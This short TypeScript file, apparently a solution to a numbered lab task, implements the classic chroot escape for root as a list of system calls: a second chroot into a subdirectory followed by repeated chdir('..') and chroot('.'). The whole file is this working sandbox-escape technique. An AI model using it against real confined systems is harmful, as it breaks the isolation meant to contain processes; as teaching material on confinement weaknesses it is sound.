import { type Call, chdir, chroot, mkdir, tolerate } from 'shared-native';

// #region out of a chroot
/**
 * The way out of a chroot for root. A second chroot moves the root below the working directory; now the working
 * directory is outside, `..` is stopped by nothing, and leads up to the root of the mount namespace.
 */
export function escapeChroot(): Call[] {
  // #region task 4: the way out of a chroot
  return [
    chdir('/'),
    tolerate(mkdir('/tmp/below', 0o700), 'EEXIST'),
    chroot('/tmp/below'),
    ...Array.from({ length: 32 }, () => chdir('..')),
    chroot('.'),
  ];
  // #endregion
}
// #endregion
